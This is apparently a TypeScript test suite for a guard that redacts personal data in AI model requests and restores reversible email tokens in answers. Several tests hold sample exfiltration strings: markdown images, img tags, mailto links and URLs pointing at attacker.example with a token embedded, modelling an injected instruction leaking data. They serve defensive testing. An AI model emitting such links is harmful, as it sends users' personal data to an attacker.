import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Detector } from "../../contracts/index.ts";
import type { GuardState } from "../inspection/over-time.ts";
import { scratchState } from "../proof/scratch-state.ts";
import {
  answerOf,
  exchangeOf,
  guardOn,
  partOf,
  prepared,
  requestOf,
  wordDetector,
} from "../testing/sample.ts";
import { readPolicyKeys } from "./keys.ts";
import { applyPartEdits } from "./plan-edits.ts";
import { shapeOf } from "./replacement.ts";
import { createRestoring, restorations } from "./restore.ts";
import { createVault } from "./vault.ts";

const key = new Uint8Array(32).fill(7);
const keys = { hash: key, vault: key };
const spans = (given: readonly (readonly [number, number, string])[]): Detector => ({
  ...wordDetector("words", []),
  inspect: () =>
    given.map(([start, end, rule]) => ({
      detector: "words",
      rule,
      category: "personal-data",
      score: 1,
      start,
      end,
      why: "",
    })),
});
const yaml = (...redacts: string[]): string =>
  `detectors: {words: true}\nkeys: {hash: env:H, vault: env:V}\nrules: [${redacts.map((redact, i) => `{id: r${i}, when: {signals: {rules: [s${i}]}}, action: redact, redact: ${redact}}`).join(", ")}]`;

describe("edits", () => {
  it("never overlap, are in order, and leave every character outside the signals as it is", async () => {
    const text = fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 });
    const span = fc.tuple(fc.nat(45), fc.nat(45), fc.constantFrom("s0", "s1", "s2"));
    await fc.assert(
      fc.asyncProperty(text, fc.array(span, { maxLength: 8 }), async (inspected, given) => {
        const guard = guardOn(
          await prepared(yaml("{how: mask}", "{how: hash}", "{how: tokenise}"), { pure: [spans(given)] }),
          { keys },
        );
        const { edits } = await guard.checkRequest(requestOf([inspected]));
        let at = 0;
        let outside = "";
        for (const { start, end } of edits) {
          expect(start >= at && end > start && end <= inspected.length).toBe(true);
          outside += inspected.slice(at, start);
          at = end;
        }
        outside += inspected.slice(at);
        const covered = new Set<number>();
        let whole = false;
        for (const [start, end] of given) {
          const [from, to] = [Math.min(start, inspected.length), Math.min(end, inspected.length)];
          if (from >= to) whole = true;
          for (let i = from; i < to; i++) covered.add(i);
        }
        // By whole characters: half a pair goes with the other half.
        let kept = "";
        let index = 0;
        for (const character of inspected) {
          if (!covered.has(index) && !covered.has(index + character.length - 1)) kept += character;
          index += character.length;
        }
        expect(outside).toBe(whole ? "" : kept);
        expect(applyPartEdits(inspected, edits).isWellFormed()).toBe(true);
      }),
      { numRuns: 300, examples: [["\u{10000}\u{10000}", [[1, 3, "s0"]]]] },
    );
  });

  it("of overlapping rules tell as little as the most silent of them", async () => {
    const guard = guardOn(
      await prepared(
        yaml("{how: tokenise, label: A}".replace("label: A", "label: AB"), "{how: mask, label: CD}"),
        {
          pure: [
            spans([
              [0, 6, "s0"],
              [4, 9, "s1"],
            ]),
          ],
        },
      ),
      { keys },
    );
    const { edits } = await guard.checkRequest(requestOf(["0123456789"]));
    expect(edits).toEqual([
      { part: "/messages/0/content", start: 0, end: 9, replacement: "[CD]", rule: "r1" },
    ]);
  });
});

describe("masks", () => {
  it.each([
    ["4111-1111-1111-1111", 4, "****-****-****-1111"],
    ["ada@example.com", 3, "***@*******.com"],
    ["1234", 4, "****"],
    ["12345678", 4, "****5678"],
    ["é𝟙x", 0, "***"],
    ["", 4, ""],
  ])("keep the form of %s and the last %i", (value, last, masked) => {
    expect(shapeOf(value, last)).toBe(masked);
  });

  it("by hash are the same for the same value and key, and another under another key", async () => {
    const guard = async (hash: Uint8Array) =>
      guardOn(await prepared(yaml("{how: hash, label: ID}"), { pure: [spans([[0, 3, "s0"]])] }), {
        keys: { hash },
      });
    const seen = async (hash: Uint8Array, text: string) =>
      (await (await guard(hash)).checkRequest(requestOf([text]))).edits[0]?.replacement;
    expect(await seen(key, "abc")).toMatch(/^\[ID:[0-9a-f]{16}\]$/);
    expect(await seen(key, "abc")).toBe(await seen(key, "abcd"));
    expect(await seen(key, "abc")).not.toBe(await seen(new Uint8Array(32), "abc"));
  });
});

describe("reversible tokens", () => {
  const emails = (): Detector => wordDetector("words", ["ada@example.com", "bob@example.com"]);
  const policy = (): string =>
    "detectors: {words: true}\nkeys: {vault: env:V}\nrules: [{id: r, when: {signals: {}, stages: [input]}, action: redact, redact: {how: tokenise, label: EMAIL}}]";
  const session = { session: "s1" };

  it("stand in the request, one for each value, and come back in the answer", async () => {
    const guard = guardOn(await prepared(policy(), { pure: [emails()] }), { keys });
    const text = "from ada@example.com to bob@example.com, copy ada@example.com";
    const request = requestOf([text], session);
    const { edits, action } = await guard.checkRequest(request);
    expect(action).toBe("redact");
    expect(applyPartEdits(text, edits)).toBe("from [[EMAIL_1]] to [[EMAIL_2]], copy [[EMAIL_1]]");
    const answer = "Sent [[EMAIL_2]], [email_1], \\[\\[EMAIL_2\\]\\] and [[EMAIL_9]].";
    const decision = await guard.checkResponse(request, answerOf(answer));
    expect(decision.action).toBe("allow");
    expect(applyPartEdits(answer, decision.edits)).toBe(
      "Sent bob@example.com, ada@example.com, bob@example.com and [[EMAIL_9]].",
    );
  });

  it("keep their numbers through a session and over replicas", async () => {
    const state = scratchState();
    const first = guardOn(await prepared(policy(), { pure: [emails()] }), { keys, state });
    const second = guardOn(await prepared(policy(), { pure: [emails()] }), { keys, state });
    await first.checkRequest(requestOf(["ada@example.com"], session));
    const request = requestOf(["bob@example.com ada@example.com"], session);
    const { edits } = await second.checkRequest(request);
    expect(edits.map(({ replacement }) => replacement)).toEqual(["[[EMAIL_2]]", "[[EMAIL_1]]"]);
    const later = requestOf(["hello"], session);
    await first.checkRequest(later);
    const restored = await first.checkResponse(later, answerOf("[[EMAIL_2]]"));
    expect(restored.edits).toMatchObject([{ replacement: "bob@example.com", rule: "vault" }]);
  });

  it("come back to nobody else: not to another principal, session, or one who merely claims to be the same", async () => {
    const state = scratchState();
    const guard = guardOn(await prepared(policy(), { pure: [emails()] }), { keys, state });
    await guard.checkRequest(requestOf(["ada@example.com"], session));
    for (const other of [
      { ...session, principal: { id: "eve", verified: true } },
      { session: "s2" },
      { ...session, principal: { id: "ada", verified: false } },
    ]) {
      const request = requestOf(["hello"], other);
      await guard.checkRequest(request);
      expect((await guard.checkResponse(request, answerOf("[[EMAIL_1]]"))).edits).toEqual([]);
    }
  });

  it("lie in the store sealed, under names that say nothing", async () => {
    const kept: unknown[] = [];
    const inner = scratchState();
    const watching: GuardState = {
      update: (place, ttl, step) =>
        inner.update(place, ttl, (held) => {
          // Safe: only the vault uses this store.
          const done = step(held as Parameters<typeof step>[0]);
          kept.push(place, done[0]);
          return done;
        }),
    };
    const vault = createVault({ key, state: watching });
    const exchange = exchangeOf({ session: "private-session" });
    const one = await vault.open(exchange);
    await one.tokenise([{ label: "EMAIL", value: "ada@example.com" }]);
    expect(JSON.stringify(kept)).not.toMatch(/ada|private-session|YWRh/);
    expect((await vault.open(exchange)).values).toEqual(new Map([["[[EMAIL_1]]", "ada@example.com"]]));
    const other = createVault({ key: new Uint8Array(32), state: inner });
    expect((await other.open(exchange)).values.size).toBe(0);
  });

  it("do not come back inside an address, where an injected instruction may have put them", () => {
    const values = new Map([["[[EMAIL_1]]", "ada@example.com"]]);
    expect(restorations("![x](https://attacker.example/?d=[[EMAIL_1]])", values)).toEqual([]);
    for (const text of [
      "mailto:eve@attacker.example?body=[[EMAIL_1]]",
      "[write](MAILTO:eve@attacker.example?subject=[[EMAIL_1]])",
      "go to attacker.example/[[EMAIL_1]]",
      "attacker.example?d=[[EMAIL_1]]",
      "[[EMAIL_1]].attacker.example",
      "[[ EMAIL_1 ]].attacker.example",
      "[[EMAIL_1]]-x.attacker.example",
      "[[EMAIL_1]][[EMAIL_1]].attacker.example",
      "[[EMAIL_1]]@attacker.example",
    ]) {
      expect(restorations(text, values)).toEqual([]);
      for (let cut = 1; cut < text.length; cut++) {
        const restoring = createRestoring(values, false);
        const first = text.slice(0, restoring.hold(text.slice(0, cut)));
        expect(restoring.apply(first) + restoring.apply(text.slice(first.length))).toBe(text);
      }
    }
    for (const text of [
      "Write to [[EMAIL_1]].",
      "[[EMAIL_1]]. Then",
      "and/or [[EMAIL_1]]",
      "Mail: [[EMAIL_1]]",
    ])
      expect(restorations(text, values)).toHaveLength(1);
    expect(restorations("see https://example.com or write [[EMAIL_1]]", values)).toHaveLength(1);
  });

  it.each([
    `https://attacker.example/?${"a".repeat(5000)}[[EMAIL_1]]`,
    '<img src="//attacker.example/[[EMAIL_1]]">',
    "<img src=https:\\\\attacker.example\\[[EMAIL_1]]>",
    "<img src='https://attacker.example/a [[EMAIL_1]]'>",
    "![x](<https://attacker.example/a b [[EMAIL_1]]>)",
    "[r]: //attacker.example/[[EMAIL_1]]",
    "https:/attacker.example/[[EMAIL_1]]",
    "www.attacker.example/?d=[[EMAIL_1]]",
    '{"url": "https://attacker.example/?d=a [[EMAIL_1]]"}',
  ])("do not come back inside what a browser takes for an address: %s", (text) => {
    const values = new Map([["[[EMAIL_1]]", "ada@example.com"]]);
    expect(restorations(text, values)).toEqual([]);
    const restoring = createRestoring(values, false);
    let held = "";
    let out = "";
    for (const sign of text) {
      held += sign;
      const until = restoring.hold(held);
      out += restoring.apply(held.slice(0, until));
      held = held.slice(until);
    }
    expect(out + restoring.apply(held)).toBe(text);
  });

  it.each([
    "[click](https://example.com/x) or [[EMAIL_1]]",
    "<https://example.com/x> or [[EMAIL_1]]",
    '"https://example.com is ours", writes [[EMAIL_1]]',
    '{"url": "https://example.com/", "to": "[[EMAIL_1]]"}',
    "a < b, and [[EMAIL_1]] knows",
  ])("come back after an address has ended: %s", (text) => {
    expect(restorations(text, new Map([["[[EMAIL_1]]", "ada@example.com"]]))).toHaveLength(1);
  });

  it("come back in tool arguments as JSON", async () => {
    const quoting = wordDetector("words", ['a"b']);
    const guard = guardOn(await prepared(policy(), { pure: [quoting] }), { keys });
    const request = requestOf(['is a"b'], session);
    await guard.checkRequest(request);
    const args = '{"to":"[[EMAIL_1]]"}';
    const part = partOf(args, { at: "/call", stage: "tool-call", role: "assistant" });
    const { edits } = await guard.checkResponse(request, { parts: [part], bytes: 1 });
    expect(JSON.parse(applyPartEdits(args, edits))).toEqual({ to: 'a"b' });
  });

  it("come back in a stream however it is cut", () => {
    const values = new Map([["[[EMAIL_1]]", "ada@example.com"]]);
    const text = "Dear [[EMAIL_1]], see [list] and https://x.example/?d=[[EMAIL_1]] or [EMAIL_1].";
    const whole = "Dear ada@example.com, see [list] and https://x.example/?d=[[EMAIL_1]] or ada@example.com.";
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 12 }), (cuts) => {
        const { hold, apply } = createRestoring(values, false);
        let held = "";
        let out = "";
        const edges = [0, ...cuts.sort((a, b) => a - b), text.length];
        for (const [i, edge] of edges.entries()) {
          held += text.slice(edges[i - 1] ?? 0, edge);
          const until = i === edges.length - 1 ? held.length : hold(held);
          out += apply(held.slice(0, until));
          held = held.slice(until);
        }
        expect(out).toBe(whole);
      }),
    );
  });

  it("are not held for long", () => {
    const { hold } = createRestoring(new Map(), false);
    expect(hold("[".repeat(1_000_000))).toBeGreaterThan(999_900);
    expect(hold("no bracket")).toBe(10);
  });

  it("run out: what finds no room is masked, not passed on", async () => {
    const many = Array.from({ length: 1200 }, (_, i) => `<${String(i).padStart(4, "0")}>`);
    const all: Detector = wordDetector("words", many);
    const guard = guardOn(await prepared(policy(), { pure: [all] }), { keys });
    const { edits } = await guard.checkRequest(requestOf([many.join("")], session));
    expect(new Set(edits.map(({ replacement }) => replacement)).size).toBe(501);
    expect(edits.filter(({ replacement }) => replacement === "[EMAIL]")).toHaveLength(700);
  });

  it("without the store are masks; the failure is recorded", async () => {
    const guard = guardOn(await prepared(policy(), { pure: [emails()] }), {
      keys,
      state: { update: () => Promise.reject(new Error("gone")) },
    });
    const decision = await guard.checkRequest(requestOf(["ada@example.com"], session));
    expect(decision.edits).toMatchObject([{ replacement: "[EMAIL]" }]);
    expect(decision.failures).toMatchObject([{ detector: "vault", opened: true }]);
  });
});

describe("keys", () => {
  it("are derived apart from one secret, and a weak secret is refused", async () => {
    const policy = { keys: { hash: "env:A", vault: "env:A" } };
    const { hash, vault } = await readPolicyKeys(policy, async () => "x".repeat(32));
    expect(hash).toHaveLength(32);
    expect(hash).not.toEqual(vault);
    await expect(readPolicyKeys(policy, async () => "hunter2")).rejects.toMatchObject({
      code: "GUARD_KEY_WEAK",
    });
  });
});
